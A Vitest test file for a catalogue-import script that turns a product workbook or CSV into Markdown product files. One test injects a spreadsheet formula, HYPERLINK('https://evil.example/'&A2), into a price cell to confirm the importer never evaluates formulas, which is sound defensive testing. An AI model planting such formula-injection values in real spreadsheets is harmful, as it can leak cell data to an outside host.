import { copyFile, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadContent, productScaffold } from '@/app/_content/tools';
import type { CellValue } from '@/scripts/lib/catalogue/cells';
import {
  column,
  exported,
  importInto,
  NOW,
  partsOf,
  PRODUCTS_PART,
  rowsOf,
  snapshot,
  withPart,
  workbookOf,
  workFolder,
} from './catalogue-workbooks';

/*
 * What an import writes: a changed cell only its field's lines, a new row a product folder as
 * `npm run new:product` makes one, a row that is gone nothing unless --delete; --dry-run nothing
 * at all. And a workbook reads the same whichever program saved it, or a CSV file.
 */

let work: Awaited<ReturnType<typeof workFolder>>;
let rows: CellValue[][];
beforeEach(async () => {
  work = await workFolder('catalogue-import-');
  rows = await rowsOf(work.folder, await exported(work.root));
});
afterEach(() => work.dispose());

/** The row of the product `sku`. */
const rowOf = (sku: string) => rows.find((row) => row[0] === sku)!;
/** Sets the cell of `id` in the row of `sku`. */
const set = (sku: string, id: string, value: CellValue) => {
  rowOf(sku)[column(id)] = value;
};
const productFile = (sku: string, locale = 'en-US') => path.join(work.root, 'products', sku, `index.${locale}.md`);
const read = (sku: string, locale?: string) => readFile(productFile(sku, locale), 'utf8');
const importRows = async (options: { dryRun?: boolean; deleteMissing?: boolean } = {}) =>
  importInto(work.root, work.folder, 'catalogue.xlsx', await workbookOf(rows), options);

describe('a changed cell', () => {
  it("changes only its field's lines in its product's file", async () => {
    const [lead, chinese] = [await read('rj-gs-001'), await read('rj-gs-001', 'zh-CN')];
    set('rj-gs-001', 'price.currency', 'USD');
    set('rj-gs-001', 'size.width', 150);
    set('rj-gs-001', 'name.zh-CN', '锦园 · 新');
    expect(await importRows()).toEqual({
      ok: true,
      report:
        'Changed content/products/rj-gs-001/index.en-US.md  size.width, price.currency\n' +
        'Changed content/products/rj-gs-001/index.zh-CN.md  name.zh-CN',
    });
    expect(await read('rj-gs-001')).toBe(
      lead.replace('  width: 140\n', '  width: 150\n').replace('  currency: CNY\n', '  currency: USD\n'),
    );
    expect(await read('rj-gs-001', 'zh-CN')).toBe(chinese.replace('name: 锦园\n', 'name: 锦园 · 新\n'));
  });

  it("keeps the rest of the file as it was saved: comments, blank lines, quotes, a byte order mark and Windows' line ends", async () => {
    const file = productFile('rj-ps-001');
    const saved = (await read('rj-ps-001'))
      .replace('type: pocket-square\n', '# Chosen with the buyers\ntype: pocket-square\n\n# Price as agreed in March\n')
      .replace('shopUrl: https://shop.rongjin-silk.com/products/rj-ps-001', "shopUrl: 'https://shop.rongjin-silk.com/products/rj-ps-001'");
    const windows = `\uFEFF${saved.replaceAll('\n', '\r\n')}`;
    await writeFile(file, windows);
    set('rj-ps-001', 'price.amount', 420);
    expect((await importRows()).report).toBe('Changed content/products/rj-ps-001/index.en-US.md  price.amount');
    expect(await read('rj-ps-001')).toBe(windows.replace('  amount: 380\r\n', '  amount: 420\r\n'));
  });

  it('writes a list one item a line, and a list emptied as []', async () => {
    const [gs1, gs2, hr1] = [await read('rj-gs-001'), await read('rj-gs-002'), await read('rj-hr-001')];
    // Other colours are listed both ways.
    set('rj-gs-001', 'variants', 'rj-gs-002');
    set('rj-gs-002', 'variants', 'rj-gs-001');
    set('rj-gs-001', 'images', 'front.jpg\nedge.jpg');
    set('rj-hr-001', 'variants', null);
    set('rj-hr-002', 'variants', null);
    await importRows();
    expect(await read('rj-gs-001')).toBe(
      gs1.replace('variants: []\n', 'variants:\n  - rj-gs-002\n').replace('  - edge.jpg\n  - folded.jpg\n', '  - edge.jpg\n'),
    );
    expect(await read('rj-gs-002')).toBe(gs2.replace('variants: []\n', 'variants:\n  - rj-gs-001\n'));
    expect(await read('rj-hr-001')).toBe(hr1.replace('variants:\n  - rj-hr-002\n', 'variants: []\n'));
  });

  it('adds picture descriptions after the last field, and removes them when the cell is emptied', async () => {
    const [gs1, hr1] = [await read('rj-gs-001', 'zh-CN'), await read('rj-hr-001')];
    set('rj-gs-001', 'pictures.zh-CN', 'edge.jpg：四边手工卷边\nfolded.jpg: 折叠');
    set('rj-hr-001', 'pictures.en-US', null);
    await importRows();
    expect(await read('rj-gs-001', 'zh-CN')).toBe(
      gs1.replace(
        'name: 锦园\n',
        'name: 锦园\npictures:\n  - file: edge.jpg\n    description: 四边手工卷边\n  - file: folded.jpg\n    description: 折叠\n',
      ),
    );
    expect(await read('rj-hr-001')).toBe(hr1.replace(/pictures:\n(.*\n){4}/, ''));
  });

  it('writes a description below the frontmatter, in place of the one there', async () => {
    const lead = await read('rj-wb-001');
    set('rj-wb-001', 'description.en-US', 'A new description.\n\nIn **two** paragraphs.');
    await importRows();
    expect(await read('rj-wb-001')).toBe(`${lead.slice(0, lead.indexOf('\n---\n') + 5)}\nA new description.\n\nIn **two** paragraphs.\n`);
  });
});

describe('a new row', () => {
  it('becomes a product folder in both languages, as npm run new:product writes one, and lists the pictures to add', async () => {
    const row = [...rowOf('rj-st-001')];
    Object.assign(row, {
      [column('sku')]: 'rj-st-003',
      [column('name.en-US')]: 'Bamboo Mist',
      [column('name.zh-CN')]: '竹雾',
      [column('variants')]: null,
      [column('images')]: 'front.jpg\nback.jpg',
      [column('added')]: new Date('2026-11-28T00:00:00Z'),
      [column('description.en-US')]: 'Bamboo in the morning mist.',
      [column('description.zh-CN')]: '晨雾中的竹林。',
      [column('pictures.zh-CN')]: 'back.jpg: 背面',
    });
    rows.splice(1, 0, row);
    const scaffold = await productScaffold(work.root, 'rj-st-003', 'stole', NOW);
    expect(await importRows()).toEqual({
      ok: true,
      report: [
        'Created content/products/rj-st-003/index.en-US.md  (new product)',
        'Created content/products/rj-st-003/index.zh-CN.md  (new product)',
        'Add these pictures, which the rows list, before the site is built (npm run check:content asks for them):',
        '  content/products/rj-st-003/front.jpg',
        '  content/products/rj-st-003/back.jpg',
      ].join('\n'),
    });
    // As new:product writes them, comments and all, with the row's values in their fields.
    expect(await read('rj-st-003')).toBe(
      `${scaffold['index.en-US.md']!.replace('\nname:\n', '\nname: Bamboo Mist\n')
        .replace('  width:\n', '  width: 65\n')
        .replace('  height:\n', '  height: 180\n')
        .replace('  amount:\n', '  amount: 1480\n')
        .replace('\nshopUrl:\n', '\nshopUrl: https://shop.rongjin-silk.com/products/rj-st-001\n')
        .replace('\ncare:\n', '\ncare: silk-twill\n')
        .replace('  - front.jpg\n', '  - front.jpg\n  - back.jpg\n')
        .replace('added: 2026-11-29\n', 'added: 2026-11-28\n')}\nBamboo in the morning mist.\n`,
    );
    expect(await read('rj-st-003', 'zh-CN')).toBe(
      `${scaffold['index.zh-CN.md']!.replace('\nname:\n', '\nname: 竹雾\npictures:\n  - file: back.jpg\n    description: 背面\n')}\n晨雾中的竹林。\n`,
    );
    // With its pictures added, the content check takes it as written.
    for (const picture of ['front.jpg', 'back.jpg']) {
      await copyFile(path.join(work.root, 'products', 'rj-st-001', 'front.jpg'), path.join(work.root, 'products', 'rj-st-003', picture));
    }
    const product = (await loadContent(work.root, { now: NOW })).products.find(({ sku }) => sku === 'rj-st-003');
    expect(product).toMatchObject({ type: 'stole', size: { width: 65, height: 180 }, price: { amount: 1480, currency: 'CNY' } });
    expect(product?.text['zh-CN'].pictures).toEqual({ 'back.jpg': '背面' });
  });
});

describe('a row that is gone', () => {
  it('deletes nothing, and is listed, unless --delete is given; then its folder is deleted', async () => {
    rows = rows.filter((row) => row[0] !== 'rj-ws-001' && row[0] !== 'rj-wb-002');
    const before = await snapshot(work.root);
    expect(await importRows()).toEqual({
      ok: true,
      report:
        'The workbook matches the content: no file changes.\n' +
        'Kept 2 products whose rows are gone (--delete deletes them): content/products/rj-wb-002, content/products/rj-ws-001',
    });
    expect(await snapshot(work.root)).toEqual(before);
    expect(await importRows({ deleteMissing: true })).toEqual({
      ok: true,
      report: 'Deleted content/products/rj-wb-002/\nDeleted content/products/rj-ws-001/',
    });
    const left = [...(await snapshot(work.root)).keys()];
    expect(left.filter((file) => /rj-(ws-001|wb-002)/.test(file))).toEqual([]);
    expect(left).toHaveLength(before.size - 10);
  });

  it('is not deleted while the home page or another product names it', async () => {
    rows = rows.filter((row) => row[0] !== 'rj-hr-001');
    const before = await snapshot(work.root);
    expect(await importRows({ deleteMissing: true })).toEqual({
      ok: false,
      report: [
        'catalogue.xlsx Products!K3  variants.0  "rj-hr-001" is not a product (a folder in content/products/): use one of rj-gs-001, rj-gs-002, rj-hr-002, rj-ps-001, rj-ps-002, rj-st-001, rj-st-002, rj-tw-001, rj-tw-002, rj-wb-001, rj-wb-002, rj-ws-001, rj-ws-002',
        'content/site.yaml  selectedPieces  lists rj-hr-001, whose row is gone and which --delete would delete: remove it from selectedPieces first, or put its row back',
        '2 problems: nothing was written',
      ].join('\n'),
    });
    expect(await snapshot(work.root)).toEqual(before);
  });
});

it('--dry-run lists what would change, file by file, and writes nothing', async () => {
  set('rj-tw-001', 'shopUrl', 'https://shop.rongjin-silk.com/products/rj-tw-001-new');
  set('rj-tw-001', 'description.zh-CN', '新的描述。');
  rows = rows.filter((row) => row[0] !== 'rj-wb-002');
  const before = await snapshot(work.root);
  expect(await importRows({ dryRun: true, deleteMissing: true })).toEqual({
    ok: true,
    report: [
      'Would change content/products/rj-tw-001/index.en-US.md  shopUrl',
      'Would change content/products/rj-tw-001/index.zh-CN.md  description.zh-CN',
      'Would delete content/products/rj-wb-002/',
      '--dry-run: nothing was written.',
    ].join('\n'),
  });
  expect(await snapshot(work.root)).toEqual(before);
});

describe('a workbook saved by another program', () => {
  it('reads numbers stored as text, full-width digits, days as serial numbers and spaces at either end as the plain values', async () => {
    set('rj-gs-001', 'price.amount', '3200');
    set('rj-gs-001', 'size.width', '１４０');
    set('rj-gs-001', 'size.height', ' 140 ');
    set('rj-gs-001', 'price.currency', 'CNY ');
    set('rj-gs-001', 'name.en-US', 'The Brocade Garden\u3000');
    set('rj-gs-001', 'images', 'front.jpg \r\nedge.jpg\r\n folded.jpg\r\n');
    // 2025-02-20, as Excel counts days, in a cell without a date's format.
    set('rj-gs-001', 'added', 45708);
    set('rj-gs-002', 'added', '２０２６/５/２２');
    set('rj-gs-001', 'sku', 'rj-gs-001  ');
    const before = await snapshot(work.root);
    expect(await importRows()).toEqual({ ok: true, report: 'The workbook matches the content: no file changes.' });
    expect(await snapshot(work.root)).toEqual(before);
  });

  it('reads what Excel writes: a formula as the value it stored, never evaluating it, texts in runs or in the cell, _x000D_ line ends', async () => {
    const before = await snapshot(work.root);
    const products = withPart(await workbookOf(rows), PRODUCTS_PART, (xml) =>
      xml
        // H2, the newest product's price (680): a formula whose stored value is the price.
        .replace(/<c r="H2"([^>]*)><v>680<\/v><\/c>/, '<c r="H2"$1><f>HYPERLINK("https://evil.example/"&amp;A2)+680</f><v>680</v></c>')
        // I2, its currency, as a formula's text result, and B2, its type, as a text in the cell itself.
        .replace(/<c r="I2"[^>]*>.*?<\/c>/, '<c r="I2" t="str"><f>"CN"&amp;"Y"</f><v>CNY</v></c>')
        .replace(/<c r="B2"[^>]*>.*?<\/c>/, '<c r="B2" t="inlineStr"><is><t>wide-slim-bandeau</t></is></c>'),
    );
    const workbook = withPart(products, 'xl/sharedStrings.xml', (xml) =>
      xml
        // A name typed in two styles, and the pictures' lines ended as Windows ends them.
        .replace(
          '<si><t>Drifting Clouds</t></si>',
          '<si><r><t xml:space="preserve">Drifting </t></r><r><rPr><b/></rPr><t>Clouds</t></r></si>',
        )
        .replace('<si><t>front.jpg\nedge.jpg\nfolded.jpg</t></si>', '<si><t>front.jpg_x000D_\nedge.jpg_x000D_\nfolded.jpg</t></si>'),
    );
    const parts = partsOf(workbook);
    expect(parts.get(PRODUCTS_PART)).toMatch(/<c r="B2" t="inlineStr">.*<f>HYPERLINK.*<c r="I2" t="str">/);
    expect(parts.get('xl/sharedStrings.xml')).toMatch(/<r><rPr><b\/><\/rPr><t>Clouds.*front\.jpg_x000D_\n/s);
    expect(await importInto(work.root, work.folder, 'excel.xlsx', workbook)).toEqual({
      ok: true,
      report: 'The workbook matches the content: no file changes.',
    });
    expect(await snapshot(work.root)).toEqual(before);
    // A formula without a stored value is an empty cell.
    const unevaluated = withPart(await workbookOf(rows), PRODUCTS_PART, (xml) =>
      xml.replace(/<c r="H2"([^>]*)><v>680<\/v><\/c>/, '<c r="H2"$1><f>340*2</f></c>'),
    );
    expect((await importInto(work.root, work.folder, 'unevaluated.xlsx', unevaluated)).report).toBe(
      'catalogue.xlsx Products!H2  price.amount  is empty: write the price as a plain number, e.g. 1680\n1 problem: nothing was written'.replace(
        'catalogue.xlsx',
        'unevaluated.xlsx',
      ),
    );
  });

  it('reads a CSV file in UTF-8, with a byte order mark or without', async () => {
    const csv = (table: CellValue[][]) =>
      table
        .map((row) =>
          row
            .map((cell) => (cell instanceof Date ? cell.toISOString().slice(0, 10) : cell === null ? '' : String(cell)))
            .map((text) => (/[",\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text))
            .join(','),
        )
        .join('\r\n');
    const before = await snapshot(work.root);
    for (const [name, text] of [
      ['catalogue.csv', csv(rows)],
      ['with-bom.csv', `\uFEFF${csv(rows)}\r\n`],
    ]) {
      expect(await importInto(work.root, work.folder, name!, text!)).toEqual({
        ok: true,
        report: 'The workbook matches the content: no file changes.',
      });
    }
    expect(await snapshot(work.root)).toEqual(before);
    set('rj-gs-001', 'price.currency', 'RMB');
    expect((await importInto(work.root, work.folder, 'catalogue.csv', `\uFEFF${csv(rows)}`)).report).toBe(
      `catalogue.csv I${rows.indexOf(rowOf('rj-gs-001')) + 1}  price.currency  "RMB" is not an ISO 4217 currency code: write e.g. CNY, USD or EUR in capitals\n1 problem: nothing was written`,
    );
  });
});
